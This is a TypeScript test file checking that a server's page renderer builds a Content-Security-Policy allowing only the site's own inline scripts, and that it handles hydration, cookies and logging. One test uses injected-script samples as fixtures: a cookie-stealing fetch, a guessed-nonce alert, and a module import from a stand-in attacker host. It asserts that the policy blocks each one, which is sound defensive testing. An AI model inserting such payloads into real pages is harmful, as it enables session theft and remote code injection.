import pino from "pino";
import { describe, expect, it } from "vitest";
import { SCRIPT_MARK_HEADER } from "#contracts/script-mark.ts";
import { sha256 } from "#server/security/csp.ts";
import { inlineHashes } from "#server/test/inline-scripts.ts";
import { HELD_MODULE_TYPE, LOADER } from "./after-paint";
import { storable } from "./cache";
import { renderedPage } from "./rendered";

const log = pino({ level: "silent" });
const policy = (hashes: { scripts: string[] }) => `script-src 'self' ${hashes.scripts.join(" ")}`;
const page = `<!DOCTYPE html><html><head><link rel="modulepreload" href="/assets/a.js"/></head><body><script>window.__reactRouterContext = {};</script><script type="module" async="">import "/assets/a.js";</script></body></html>`;
/** The render's mark (app/entry.server.tsx): React Router's nonce on each inline script it wrote. */
const MARK = "cmVuZGVyLW1hcmstZm9yLXRlc3Rz";
const marked = (html: string) =>
  html
    .replaceAll("<script>", `<script nonce="${MARK}">`)
    .replaceAll('<script type="module"', `<script nonce="${MARK}" type="module"`);
const rendering = (html: string) =>
  new Response(html, { status: 200, headers: { "content-type": "text/html", [SCRIPT_MARK_HEADER]: MARK } });

describe("a rendered page", () => {
  it("holds an HTML page's hydration until it has painted, with a policy naming its inline scripts", async () => {
    const rendered = await renderedPage(
      new Response(marked(page), {
        status: 200,
        headers: { "content-type": "text/html", "content-length": "1", [SCRIPT_MARK_HEADER]: MARK },
      }),
      { contentSecurityPolicy: policy, log },
    );
    expect(rendered.body).toContain(`type="${HELD_MODULE_TYPE}"`);
    expect(rendered.body).not.toContain("modulepreload");
    const headers = Object.fromEntries(rendered.headers);
    expect(headers["content-type"]).toBe("text/html; charset=utf-8");
    expect(headers["content-length"]).toBeUndefined();
    expect(headers["content-security-policy"]).toBe(policy(inlineHashes(rendered.body)));
    // The mark is neither on the page nor in its headers.
    expect(rendered.body).not.toContain(MARK);
    expect(headers[SCRIPT_MARK_HEADER]).toBeUndefined();
    expect(storable(rendered)).toBe(true);
  });

  it("allows none of the scripts a page's content brought in, however they are written", async () => {
    const injected = [
      '<script>fetch("/steal?c="+document.cookie)</script>',
      '<script nonce="guessed">alert(1)</script>',
      `<script type="module">import "https://evil.example/x.js"</script>`,
    ];
    // The injection sits in the content, before React Router's own scripts, as a post's text would.
    const html = marked(page).replace("<body>", `<body><article>${injected.join("")}</article>`);
    const rendered = await renderedPage(rendering(html), { contentSecurityPolicy: policy, log });
    const csp = Object.fromEntries(rendered.headers)["content-security-policy"] ?? "";
    for (const body of [
      'fetch("/steal?c="+document.cookie)',
      "alert(1)",
      'import "https://evil.example/x.js"',
    ])
      expect(csp).not.toContain(sha256(body));
    // The site's own still are: the context, the held module the loader inserts, and the loader.
    for (const body of ["window.__reactRouterContext = {};", 'import "/assets/a.js";', LOADER])
      expect(csp).toContain(sha256(body));
    expect(csp).toBe(
      `script-src 'self' ${[...new Set(["window.__reactRouterContext = {};", 'import "/assets/a.js";', LOADER])].map(sha256).join(" ")}`,
    );
    // A page rendered without a mark (not by the site's renderer): none of its scripts is allowed, only the
    // loader the server itself added (whose copy of the module would then be refused too).
    const unmarked = await renderedPage(new Response(page, { headers: { "content-type": "text/html" } }), {
      contentSecurityPolicy: policy,
      log,
    });
    expect(Object.fromEntries(unmarked.headers)["content-security-policy"]).toBe(
      `script-src 'self' ${sha256(LOADER)}`,
    );
  });

  it("allows the held module with a lazily loaded part's imports only when the render marked the module", async () => {
    const withView = page.replace(
      "</head>",
      '<link rel="modulepreload" href="/assets/view.js" data-lazy=""/></head>',
    );
    const rendered = await renderedPage(rendering(marked(withView)), { contentSecurityPolicy: policy, log });
    expect(rendered.body).toContain(
      `id="hydrate">import "/assets/view.js";\nimport "/assets/a.js";</script>`,
    );
    const csp = Object.fromEntries(rendered.headers)["content-security-policy"] ?? "";
    expect(csp).toBe(policy(inlineHashes(rendered.body)));
    // A page not rendered by the site's renderer gets nothing but the loader, the part's imports or not.
    const unmarked = await renderedPage(
      new Response(withView, { headers: { "content-type": "text/html" } }),
      {
        contentSecurityPolicy: policy,
        log,
      },
    );
    expect(Object.fromEntries(unmarked.headers)["content-security-policy"]).toBe(
      `script-src 'self' ${sha256(LOADER)}`,
    );
  });

  it("keeps every Set-Cookie of an answer, which makes it one no cache may keep", async () => {
    const headers = new Headers({ "content-type": "text/html" });
    headers.append("set-cookie", "a=1; HttpOnly");
    headers.append("set-cookie", "b=2; HttpOnly");
    const rendered = await renderedPage(new Response(page, { headers }), { log });
    expect(rendered.headers.filter(([name]) => name === "set-cookie").map(([, value]) => value)).toEqual([
      "a=1; HttpOnly",
      "b=2; HttpOnly",
    ]);
    expect(storable(rendered)).toBe(false);
  });

  it("leaves data and pages without React Router's scripts as they are", async () => {
    const data = await renderedPage(
      new Response('[{"_1":2}]', { headers: { "content-type": "text/x-script" } }),
      { contentSecurityPolicy: policy, log },
    );
    expect(data.body).toBe('[{"_1":2}]');
    expect(Object.fromEntries(data.headers)["content-security-policy"]).toBeUndefined();
    const plain = "<!DOCTYPE html><html><body><p>Signed out</p></body></html>";
    const html = await renderedPage(new Response(plain, { headers: { "content-type": "text/html" } }), {
      log,
    });
    expect(html.body).toBe(plain);
  });

  it("still answers with a page whose scripts it cannot hold, and says so in the log", async () => {
    const lines: string[] = [];
    const logger = pino({ level: "error" }, { write: (line: string) => lines.push(line) });
    const twice = page.replace("</body>", '<script type="module" async="">import "/b.js";</script></body>');
    const rendered = await renderedPage(new Response(twice, { headers: { "content-type": "text/html" } }), {
      log: logger,
    });
    expect(rendered.body).toBe(twice);
    expect(lines.join("")).toContain("hydration could not be held");
  });
});
